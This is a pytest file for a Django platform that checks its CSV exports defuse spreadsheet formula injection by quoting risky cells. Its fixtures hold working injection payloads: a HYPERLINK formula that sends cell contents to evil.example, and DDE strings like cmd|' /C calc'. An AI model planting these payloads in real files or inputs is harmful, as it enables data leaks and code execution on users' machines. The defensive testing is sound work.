"""No CSV the platform writes can run a formula in a spreadsheet (issue 12 #9): text from the
public that starts with =, +, -, @, a tab or a carriage return is written with a quote in front
(OWASP), in every export — the public open data (`/api/v2/export/cases.csv`,
`export_open_data`), the admin's submission inbox, survey answers and search logs — while
numbers stay numbers, the JSON export keeps the text as written and the Frictionless package
stays valid."""

import csv
import io
import json

from django.core.management import call_command

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core import csv as core_csv
from search.models import SearchLog
from submissions.models import SurveyResponse

FORMULAS = {
    "title": '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "summary": "+1+cmd|' /C calc'!A0",
    "city": "@SUM(1+1)*cmd|' /C calc'!A0",
    "target_groups": "\t=1+1",
    "barriers": "\r=1+1",
    "lessons_learned": "-2+3+cmd|' /C calc'!A0",
}


def _rows(content):
    if not isinstance(content, str):
        content = b"".join(content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(content)))


def _assert_neutralised(cell, written):
    assert cell == "'" + written, (cell, written)


@pytest.fixture
def hostile_case(case_factory):
    return case_factory(
        **FORMULAS,
        latitude=-33.92584,
        longitude=-18.42322,
        actors=[{"organisation": "=1+2", "sector": "ngo"}],
    )


@pytest.mark.django_db
def test_the_public_csv_export_neutralises_formulas_and_keeps_numbers(client, hostile_case):
    response = client.get("/api/v2/export/cases.csv")
    assert response.status_code == 200
    (row,) = _rows(response.content.decode())
    for field, written in FORMULAS.items():
        _assert_neutralised(row[field], written)
    _assert_neutralised(row["actors"], "=1+2 (ngo)")
    # Numbers in numeric columns are not text: a negative coordinate stays a number.
    assert (row["latitude"], row["longitude"]) == ("-33.92584", "-18.42322")
    assert row["city"] != hostile_case.city  # the quote is added in the CSV only


@pytest.mark.django_db
def test_the_json_export_keeps_the_text_as_written(client, hostile_case):
    (case,) = client.get("/api/v2/export/cases.json").json()["cases"]
    for field, written in FORMULAS.items():
        assert case[field] == written
    assert case["longitude"] == -18.42322


@pytest.mark.django_db
def test_the_open_data_package_is_neutralised_and_still_valid(hostile_case, tmp_path):
    from frictionless import Package, validate

    call_command("export_open_data", str(tmp_path))
    with (tmp_path / "cases.csv").open(encoding="utf-8", newline="") as handle:
        (row,) = _rows(handle.read())
    for field, written in FORMULAS.items():
        _assert_neutralised(row[field], written)
    report = validate(str(tmp_path / "datapackage.json"))
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
    (typed,) = Package(str(tmp_path / "datapackage.json")).get_resource("cases").read_rows()
    assert float(typed["longitude"]) == -18.42322
    assert typed["title"] == "'" + FORMULAS["title"]
    descriptor = json.loads((tmp_path / "datapackage.json").read_text())
    assert "single quote" in descriptor["resources"][0]["description"]


@pytest.mark.django_db
def test_the_submission_inbox_export_neutralises_what_submitters_typed(client, superuser):
    payload = {
        "title": "=1+1 rooftop farms",
        "summary": "Farms on roofs.",
        "description": "Farms on roofs.",
        "city": "Accra",
        "country": "GH",
        "sdgs": [2],
        "submitter_name": '=HYPERLINK("https://evil.example","Ada")',
        "submitter_email": "ada@example.org",
        "submitter_organisation": "@SUM(1+1)",
        "consent_publish": True,
        "consent_privacy": True,
    }
    response = client.post(
        "/api/v2/submissions/cases/", json.dumps(payload), content_type="application/json"
    )
    assert response.status_code == 201, response.content
    client.force_login(superuser)
    export = client.get("/admin/submissions/submission/", {"export": "csv"})
    assert export.status_code == 200
    (row,) = _rows(export.streaming_content)
    _assert_neutralised(row["Title"], payload["title"])
    _assert_neutralised(row["Submitter Name"], payload["submitter_name"])
    _assert_neutralised(row["Submitter Organisation"], payload["submitter_organisation"])
    assert row["Submitter Email"] == "ada@example.org"


@pytest.mark.django_db
def test_the_survey_export_neutralises_answers(client, superuser):
    SurveyResponse.objects.create(
        sector="ngo",
        country="KE",
        learning_channels=["networks"],
        learning_levels=["network"],
        what_learned="-1+cmd|' /C calc'!A0",
        comments="@SUM(A1:A9)",
    )
    client.force_login(superuser)
    (row,) = _rows(
        client.get("/admin/submissions/surveyresponse/", {"export": "csv"}).streaming_content
    )
    _assert_neutralised(row["What Learned"], "-1+cmd|' /C calc'!A0")
    _assert_neutralised(row["Comments"], "@SUM(A1:A9)")
    assert row["Sector"] == "ngo"


@pytest.mark.django_db
def test_the_search_log_export_neutralises_queries(client, superuser):
    SearchLog.objects.create(
        session="s",
        source="api",
        query="=1+1",
        order="relevance",
        page=1,
        result_count=3,
        duration_ms=-1.5,
    )
    client.force_login(superuser)
    (row,) = _rows(client.get("/admin/search/searchlog/", {"export": "csv"}).streaming_content)
    _assert_neutralised(row["Query"], "=1+1")
    assert row["Duration Ms"] == "-1.5"  # a number, even a negative one, is left alone


@given(cells=st.lists(st.one_of(st.text(), st.integers(), st.floats(allow_nan=False)), max_size=6))
def test_no_cell_read_back_starts_like_a_formula_and_nothing_is_lost(cells):
    """Whatever the text (quotes, line breaks, lone carriage returns), each cell reads back as
    one cell that no spreadsheet runs; removing the added quote gives the text as written."""
    handle = io.StringIO(newline="")
    core_csv.Writer(handle).writerow(cells)
    (row,) = list(csv.reader(io.StringIO(handle.getvalue(), newline="")))
    assert len(row) == len(cells)
    for cell, value in zip(row, cells, strict=True):
        if isinstance(value, str):
            assert not cell.startswith(core_csv.FORMULA_STARTS)
            assert cell == value or (cell == "'" + value and value[:1] in "=+-@\t\r")
        else:
            # Numbers are written as numbers, minus sign and all.
            assert cell == str(value)
